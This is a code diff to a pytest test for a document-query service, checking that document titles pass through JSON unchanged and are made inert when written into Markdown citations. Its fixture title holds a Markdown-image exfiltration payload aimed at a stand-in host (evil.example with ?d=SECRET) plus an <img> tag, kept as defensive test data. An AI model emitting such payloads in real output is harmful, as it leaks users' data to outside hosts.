@@ -13,6 +13,8 @@ from pathlib import Path
 
 import pytest
 
+from docquery.core.domain import Citation
+from docquery.rag.citation_fields import sources_markdown
 from tests.support.api_harness import (
     Harness,
     JwtIssuer,
@@ -89,9 +91,10 @@ def test_exfiltration_is_neutralised_in_every_mode(
     _assert_clean(text)
 
 
-def test_document_titles_in_listings_and_citations_are_sanitised(harness: Harness) -> None:
-    # Titles come from documents, so an injected title is an exfiltration channel too.
-    title = "Policy ![t](https://evil.example/t.png?d=SECRET) <img src=x>"
+def test_document_titles_are_plain_text_in_json_and_inert_where_put_into_markdown(harness: Harness) -> None:
+    # Titles come from documents, so an injected title is an exfiltration channel too: JSON carries
+    # it as text (never escaped), and the Markdown the service writes escapes it there.
+    title = "Policy ![t](https://evil.example/t.png?d=SECRET) <img src=x> sys.argv[i]"
     harness.corpus.add("titled", ["expense policy for travel claims"], ["eng"], title=title)
     listed = harness.client.get("/v1/documents", headers=bearer("tok-alice-eng")).json()["documents"]
     search = harness.client.post(
@@ -99,5 +102,8 @@ def test_document_titles_in_listings_and_citations_are_sanitised(harness: Harnes
     ).json()
     titles = [d["title"] for d in listed] + [c["title"] for c in search["citations"]]
     assert titles, "the document is visible to its group"
-    for shown in titles:
-        assert "evil.example" not in shown and "<img" not in shown
+    assert all(shown == title for shown in titles)
+    citations = [Citation.model_validate(c) for c in search["citations"]]
+    footer = sources_markdown(citations, harness.components.pipeline.sanitizer)
+    assert "[S1] Policy" in footer
+    assert not violations(footer) and "<img" not in footer
